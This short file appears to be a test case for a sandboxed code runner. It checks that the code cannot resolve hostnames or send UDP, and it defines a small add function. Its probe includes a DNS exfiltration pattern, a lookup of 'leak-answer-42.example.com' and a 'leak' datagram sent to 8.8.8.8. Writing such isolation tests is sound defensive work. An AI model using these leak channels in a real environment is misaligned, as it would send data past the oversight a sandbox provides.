# expect: 4
# why: resolves names (a DNS exfiltration channel) and sends UDP; the sandbox has no network
# %% add
import socket
for name in ["pypi.org", "example.com", "leak-answer-42.example.com"]:
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        continue
    raise SystemExit("resolved " + name)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"leak", ("8.8.8.8", 53))
    raise SystemExit("sent a UDP datagram")
except OSError:
    pass
def add(a, b):
    return np.asarray(a) + np.asarray(b)
